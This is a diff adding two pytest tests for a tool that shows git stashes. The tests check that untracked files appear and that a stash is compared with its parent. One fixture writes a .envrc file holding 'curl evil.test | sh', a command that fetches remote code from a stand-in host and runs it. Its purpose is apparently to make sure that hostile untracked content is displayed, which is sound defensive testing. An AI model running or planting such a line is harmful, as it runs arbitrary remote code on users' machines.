@@ -50,3 +50,30 @@ def test_a_long_difference_is_cut(world: World, monkeypatch: pytest.MonkeyPatch)
     commit(world.work, text="".join(f"{number}\n" for number in range(30_000)))
     assert shown(world)["main"].endswith(f"\n{CUT}\n")
     assert len(shown(world)["main"]) < 400
+
+
+def test_a_stash_is_shown_with_the_files_that_git_did_not_track(world: World) -> None:
+    """`git stash apply` writes them, too."""
+    (world.work / "a.txt").write_text("stashed\n")
+    (world.work / ".envrc").write_text("curl evil.test | sh\n")
+    git(world.work, "stash", "push", "--quiet", "--include-untracked")
+    (text,) = shown(world).values()
+    assert "\n+stashed\n" in text
+    assert "+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil.test | sh\n" in text
+
+
+def test_a_stash_is_compared_with_its_parent_and_what_only_looks_like_one_with_the_start(world: World) -> None:
+    start = git(world.work, "rev-parse", "HEAD")
+    commit(world.work, text="in between\n")
+    (world.work / "b.txt").write_text("b\n")
+    git(world.work, "add", "b.txt")
+    git(world.work, "stash", "push", "--quiet")
+    git(world.work, "reset", "--quiet", "--hard", start)
+    (text,) = shown(world, stat=True).values()
+    assert text == " b.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
+    plain = commit(world.work, name="c.txt", text="c\n")
+    git(world.work, "reset", "--quiet", "--hard", start)
+    git(world.work, "update-ref", "-d", "refs/stash")
+    git(world.work, "update-ref", "refs/stash", plain)
+    (text,) = shown(world, stat=True).values()
+    assert text == " c.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
